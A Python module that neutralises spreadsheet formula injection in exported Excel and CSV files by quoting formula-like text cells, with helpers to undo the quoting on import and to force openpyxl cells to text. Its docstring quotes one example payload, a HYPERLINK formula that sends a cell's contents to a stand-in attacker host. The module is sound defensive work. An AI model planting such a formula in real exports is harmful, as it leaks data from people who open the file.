"""Cells a spreadsheet shows as text, never runs as a formula (CSV / formula injection).

A name such as ``=HYPERLINK("http://evil.example/?d="&A1,"点击查看")`` comes in through a
roster or a contest file; written as it is, Excel and WPS would run it the moment someone
opens the export. OWASP's rule: a text cell that begins with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return gets a leading single quote. We also look past leading
whitespace (`` =1+1``, ``\\n=1+1``): some spreadsheets trim it before deciding.

Only text is touched: numbers and dates written as such stay what they are. Every Excel
file goes through ``files.save_workbook`` and every CSV through ``text_table.csv_text``,
which call ``inert`` on each cell, so no writer can forget it. A workbook written in
openpyxl's write-only mode (the audit export) keeps no cells to visit at saving: its
writer passes each text cell through ``inert_cell`` as it appends it.
"""

from __future__ import annotations

import re
from typing import Any, TypeVar

# First characters that make a spreadsheet read a cell as a formula (OWASP's list).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A text that is only a number ("-3.50", "+2"): a spreadsheet reads it as a number.
NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")
CellT = TypeVar("CellT")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula."""
    return text.startswith(TRIGGERS) or text.lstrip().startswith(TRIGGERS)


def inert(value: Any, number_text: bool = False) -> Any:
    """``value`` as a cell that cannot run: formula-like text gets a leading quote.

    Anything that is not ``str`` (int, Decimal, float, dates, None) comes back unchanged.
    With ``number_text`` (a column of numbers written as text, e.g. a CSV's totals), a
    text that is just a number is left as it is: "-3.50" is a number to any spreadsheet.
    A name or unit gets no such pass: "-3" there is quoted like any other text.
    """
    if not isinstance(value, str) or not formula_like(value):
        return value
    if number_text and NUMBER.fullmatch(value):
        return value
    return QUOTE + value


def restored(text: str) -> str:
    """The text a cell quoted by ``inert`` stood for; any other text unchanged.

    Our importers read files we exported: "'=SUM(A1)" goes back to "=SUM(A1)", while a
    quote before ordinary text ("'s-Hertogenbosch") is kept, as ``inert`` never adds one.
    """
    if text.startswith(QUOTE) and formula_like(text[1:]):
        return text[1:]
    return text


def inert_workbook(workbook: Any) -> None:
    """Make every text cell of an openpyxl workbook text, quoted where it looks like a formula.

    openpyxl turns any assigned str that starts with "=" into a formula (data type "f")
    and one such as "#N/A" into an error ("e"); our writers never mean either, so every
    str cell is written back as text (data type "s").
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                inert_cell(cell)


def inert_cell(cell: CellT) -> CellT:
    """An openpyxl cell made text if it holds text, quoted where it looks like a formula;
    the cell itself. ``inert_workbook`` calls it on every cell at saving; a write-only
    sheet, whose cells cannot be visited again, on each text cell as it is appended."""
    value = cell.value  # type: ignore[attr-defined]
    if isinstance(value, str):
        if formula_like(value):  # assigning costs: only where it changes
            cell.value = QUOTE + value  # type: ignore[attr-defined]
        cell.data_type = "s"  # type: ignore[attr-defined]
    return cell
